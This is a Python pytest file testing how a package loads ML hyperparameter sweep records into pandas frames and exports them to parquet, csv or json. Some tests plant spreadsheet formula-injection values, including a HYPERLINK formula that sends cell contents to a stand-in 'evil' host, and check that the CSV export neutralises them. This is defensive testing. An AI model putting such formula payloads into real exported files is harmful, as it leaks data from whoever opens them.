"""Real sweeps' records as frames and files, and those that a hostile or unfinished store holds."""

import json
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

import cifar_ray
from cifar_ray.cli.main import main
from cifar_ray.errors import ConfigurationError, UnknownNameError
from cifar_ray.records import EpochMetrics, SweepRecord, TrialRecord
from cifar_ray.reporting.frames import SweepFrames, export_frames
from cifar_ray.storage.runs import RunStore

RESULTS = Path(__file__).parents[2] / "docs/results"
REAL = "cnn-20261123-202106-86f1"


@pytest.fixture(scope="module")
def real() -> SweepFrames:
    return cifar_ray.load_sweep(f"{RESULTS}/{REAL}/")


def test_a_real_sweep(real: SweepFrames) -> None:
    assert real.result is not None
    assert real.result.winner is not None
    assert len(real.trials) == real.sweep.num_trials == 30
    assert len(real.epochs) == real.result.num_epochs == real.trials["num_epochs"].sum()
    best = real.trials.iloc[0]
    assert (best["trial_id"], best["best_epoch"]) == (real.result.winner.trial_id, real.result.winner.best_epoch)
    assert best["learning_rate"] == real.result.winner.config["learning_rate"]
    assert best["best_validation_accuracy"] == real.epochs["validation_accuracy"].max()
    assert set(real.trials["dataset"]) == set(real.epochs["dataset"]) == {real.sweep.dataset.name}
    assert real.scores is not None


def test_importing_the_package_loads_nothing_of_it() -> None:
    code = "import sys, cifar_ray; sys.exit(any(name in sys.modules for name in ('pandas', 'click', 'numpy', 'torch')))"
    assert subprocess.run([sys.executable, "-c", code], timeout=60, check=False).returncode == 0
    with pytest.raises(AttributeError, match="no_such_thing"):
        cifar_ray.no_such_thing  # noqa: B018  # type: ignore[attr-defined]


@pytest.mark.parametrize("kind", ["parquet", "csv", "json"])
def test_export_writes_what_is_read_back(real: SweepFrames, kind: str, tmp_path: Path) -> None:
    arguments = ["results", "export", REAL, "--format", kind, "--to", str(tmp_path), "--storage", str(RESULTS)]
    done = CliRunner().invoke(main, arguments)
    assert done.exit_code == 0, done.output
    folder = tmp_path / REAL
    assert done.output.split() == [str(folder / name) for name in (f"trials.{kind}", f"epochs.{kind}", "sweep.json")]
    assert SweepRecord.from_json((folder / "sweep.json").read_text()) == real.sweep
    for name, frame in (("trials", real.trials), ("epochs", real.epochs)):
        path = folder / f"{name}.{kind}"
        back = {
            "parquet": pd.read_parquet,
            "csv": pd.read_csv,
            "json": lambda path: pd.DataFrame(json.loads(path.read_text())),
        }[kind](path)
        assert list(back.columns) == list(frame.columns)
        for column in frame.columns.intersection(["learning_rate", "validation_accuracy", "num_epochs", "trial_id"]):
            assert list(back[column]) == list(frame[column]), column


@pytest.mark.usefixtures("ascii_locale")
def test_a_record_is_exported_in_utf_8_whatever_the_locale(real: SweepFrames, tmp_path: Path) -> None:
    named = replace(real.sweep, dataset=replace(real.sweep.dataset, name="Größe"))
    export_frames(replace(real, sweep=named), tmp_path, "json")
    assert SweepRecord.from_json((tmp_path / "sweep.json").read_bytes()) == named


def test_a_sweep_without_a_trial_or_with_those_that_run(
    runs: RunStore, sweep_record: SweepRecord, trial_record: TrialRecord, epoch_metrics: list[EpochMetrics]
) -> None:
    runs.create_sweep(sweep_record)
    uri = f"{runs.objects.uri}/cnn-1"
    empty = cifar_ray.load_sweep(uri)
    assert (len(empty.trials), len(empty.epochs), empty.result, empty.scores) == (0, 0, None, None)
    assert {"trial_id", "best_validation_accuracy"} <= set(empty.trials.columns)
    hostile = {"seconds": "=cmd()", "trial_id": "x", "learning_rate": 0.1}
    started = replace(trial_record, outcome="running", num_epochs=0, best_epoch=None, config=hostile)
    runs.write_trial("cnn-1", started)
    runs.write_metrics("cnn-1", [*epoch_metrics[:2], replace(epoch_metrics[2], train_loss=None)])
    frames = cifar_ray.load_sweep(uri)
    (row,) = frames.trials.to_dict("records")
    assert (row["trial_id"], row["config_trial_id"], row["config_seconds"]) == ("t0000", "x", "=cmd()")
    assert (row["num_epochs"], row["best_epoch"]) == (3, 2)
    assert frames.epochs["train_loss"].isna().tolist() == [False, False, True]


def test_settings_of_several_types_are_no_parquet(
    runs: RunStore, sweep_record: SweepRecord, trial_record: TrialRecord, tmp_path: Path
) -> None:
    runs.create_sweep(sweep_record)
    for number, value in enumerate((1, "many", {"a": [None]})):
        runs.write_trial("cnn-1", replace(trial_record, trial_id=f"t000{number}", config={"depth": value}))
    arguments = ["results", "export", "cnn-1", "--to", str(tmp_path), "--storage", runs.objects.uri, "--format"]
    refused = CliRunner().invoke(main, [*arguments, "parquet"])
    assert (refused.exit_code, "take --format json or csv" in refused.output) == (2, True)
    assert CliRunner().invoke(main, [*arguments, "json"]).exit_code == 0


@pytest.mark.parametrize("uri", ["", "/", "s3://bucket", "s3://", "/cnn-1", "x/..", "x/Not An Id"])
def test_a_malformed_uri(uri: str) -> None:
    with pytest.raises(ConfigurationError, match=r"names no sweep|malformed|no bucket name"):
        cifar_ray.load_sweep(uri)


def test_an_unknown_sweep(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(UnknownNameError, match="cnn-2") as caught:
        cifar_ray.load_sweep(f"{RESULTS}/cnn-20261123-202106-86f2")
    assert REAL in str(caught.value.hint)
    monkeypatch.chdir(RESULTS)
    assert cifar_ray.load_sweep(REAL).sweep.sweep_id == REAL


def test_a_path_is_as_good_as_its_text() -> None:
    assert cifar_ray.load_sweep(RESULTS / REAL).sweep.sweep_id == REAL


def test_a_store_in_the_place_of_a_sweep_is_named(runs: RunStore, sweep_record: SweepRecord) -> None:
    runs.create_sweep(sweep_record)
    for load in (cifar_ray.load_sweep, cifar_ray.load_model):
        with pytest.raises(ConfigurationError, match="is a store of sweeps") as caught:
            load(runs.objects.uri)
        assert str(caught.value.hint).endswith("/cnn-1")


def test_a_spreadsheet_computes_nothing_of_a_csv(real: SweepFrames, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
    export_frames(replace(real, trials=real.trials.assign(error=formula)), tmp_path, "csv")
    assert set(pd.read_csv(tmp_path / "trials.csv")["error"]) == {f"'{formula}"}


def test_a_csv_has_events_as_json(real: SweepFrames, tmp_path: Path) -> None:
    trials = real.trials.assign(events=[({"what": "started", "at": "now"},)] * len(real.trials))
    export_frames(replace(real, trials=trials), tmp_path, "csv")
    (events,) = set(pd.read_csv(tmp_path / "trials.csv")["events"])
    assert json.loads(events) == [{"what": "started", "at": "now"}]


@pytest.mark.parametrize("kind", ["parquet", "csv", "json"])
def test_an_exported_folder_is_not_taken_for_a_sweep_without_trials(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    done = CliRunner().invoke(main, ["results", "export", REAL, "--format", kind, "--storage", str(RESULTS)])
    assert done.output.startswith(f"exports/{REAL}/trials.{kind}")
    with pytest.raises(ConfigurationError, match="results export") as caught:
        cifar_ray.load_sweep(f"exports/{REAL}")
    assert f"{REAL}/trials.{kind} with pandas" in str(caught.value.hint)


def test_a_place_that_cannot_be_written_is_told(real: SweepFrames, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(ConfigurationError, match="file"):
        export_frames(real, tmp_path / "file" / "below", "csv")


def test_a_spreadsheet_computes_no_name_of_a_setting(real: SweepFrames, tmp_path: Path) -> None:
    export_frames(replace(real, trials=real.trials.assign(**{"=1+1": -0.5})), tmp_path, "csv")
    assert set(pd.read_csv(tmp_path / "trials.csv")["'=1+1"]) == {-0.5}


def test_a_store_is_not_exported_into_itself(runs: RunStore, sweep_record: SweepRecord, tmp_path: Path) -> None:
    """Its own record would be written again, whoever is at work on it."""
    runs.create_sweep(sweep_record)
    (tmp_path / "link").symlink_to(runs.objects.uri)
    for folder in (runs.objects.uri, str(tmp_path / "link")):
        arguments = ["results", "export", "cnn-1", "--format", "csv", "--to", folder, "--storage", runs.objects.uri]
        done = CliRunner().invoke(main, arguments)
        assert (done.exit_code, "is the store itself" in done.output) == (2, True), done.output
    assert runs.objects.keys() == ["cnn-1/sweep.json"]
